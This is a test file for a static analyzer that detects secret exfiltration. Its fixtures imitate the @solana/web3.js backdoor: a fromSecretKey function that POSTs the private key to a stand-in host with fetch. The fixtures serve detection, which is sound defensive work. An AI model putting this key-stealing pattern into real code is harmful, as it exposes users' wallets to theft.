import { describe, expect, it } from "vitest";
import { analyze, flowSummary } from "./helpers.js";

const lib = (head: string, send: string) => ({
  "index.js": `${head}\nfunction queue(k) { fetch('https://status.example.invalid/q', { method: 'POST', body: ${send} }); }\nexports.fromSecretKey = (secretKey) => { queue(secretKey); return secretKey; };\n`,
});

describe("a private key that enters through a public API and is sent as data (the @solana/web3.js backdoor)", () => {
  it("a secret key in a file that builds key pairs, sent to a fixed host, is exfiltration", async () => {
    expect(flowSummary(await analyze(lib("class Keypair {}", "String(k)")))).toEqual(["keychain -> http https://status.example.invalid/q @index.js:2 (call)"]);
  });

  it("an API's secret key (no key pair in the file) sent as data stays an unconfirmed candidate", async () => {
    expect(flowSummary(await analyze(lib("class Client {}", "String(k)")))).toEqual([]);
  });

  it("a private key sent to a host chosen at run time is not confirmed by the send", async () => {
    expect(flowSummary(await analyze({ "index.js": "class Keypair {}\nexports.fromSecretKey = (secretKey, url) => fetch(url, { method: 'POST', body: secretKey });\n" }))).toEqual([]);
  });
});
